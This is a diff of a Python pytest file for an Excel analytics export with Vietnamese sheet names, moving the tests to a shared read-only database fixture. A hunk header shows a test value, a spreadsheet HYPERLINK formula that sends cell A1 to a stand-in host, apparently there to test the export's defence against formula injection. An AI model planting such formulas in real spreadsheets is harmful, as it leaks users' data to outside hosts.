@@ -28,15 +28,8 @@ EVIL_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Bảo Lạc")'
 
 
 @pytest.fixture(scope="module")
-def demo(demo_store_template):
-    con = connect(demo_store_template, read_only=True)
-    yield con
-    con.close()
-
-
-@pytest.fixture(scope="module")
-def book(demo):
-    return openpyxl.load_workbook(io.BytesIO(analytics_workbook(demo, 2020, "042")))
+def book(demo_readonly):
+    return openpyxl.load_workbook(io.BytesIO(analytics_workbook(demo_readonly, 2020, "042")))
 
 
 def sheet_rows(sheet) -> list[list]:
@@ -62,16 +55,16 @@ def test_the_workbook_has_every_sheet(book):
         assert all(isinstance(c.value, str) and c.value for c in sheet[1])  # Vietnamese headers
 
 
-def test_sheets_equal_the_analytics_results(book, demo):
-    offices, detail = recoverable.recoverable_by_office(demo, 2020, "042")
+def test_sheets_equal_the_analytics_results(book, demo_readonly):
+    offices, detail = recoverable.recoverable_by_office(demo_readonly, 2020, "042")
     expected = {
-        "Xếp hạng": expected_rows(rankings(demo, 2020), RANKING_COLUMNS),
-        "Lĩnh vực": expected_rows(gaps.gaps(demo, 2020, "042", depth=1), FIELD_COLUMNS),
-        "Tiêu chí": expected_rows(gaps.gaps(demo, 2020, "042", depth=2), CRITERIA_COLUMNS),
+        "Xếp hạng": expected_rows(rankings(demo_readonly, 2020), RANKING_COLUMNS),
+        "Lĩnh vực": expected_rows(gaps.gaps(demo_readonly, 2020, "042", depth=1), FIELD_COLUMNS),
+        "Tiêu chí": expected_rows(gaps.gaps(demo_readonly, 2020, "042", depth=2), CRITERIA_COLUMNS),
         "Cơ quan": expected_rows(offices, OFFICE_COLUMNS),
         "Tiêu chí theo cơ quan": expected_rows(detail, OFFICE_DETAIL_COLUMNS),
-        "Xã": expected_rows(communes.commune_table(demo, 2020, "042"), COMMUNE_COLUMNS),
-        "Kế hoạch": expected_rows(plan_steps_frame(plan_to_target(demo, 2020, "042")), PLAN_COLUMNS),
+        "Xã": expected_rows(communes.commune_table(demo_readonly, 2020, "042"), COMMUNE_COLUMNS),
+        "Kế hoạch": expected_rows(plan_steps_frame(plan_to_target(demo_readonly, 2020, "042")), PLAN_COLUMNS),
     }
     for title, rows in expected.items():
         assert sheet_rows(book[title]) == rows, title
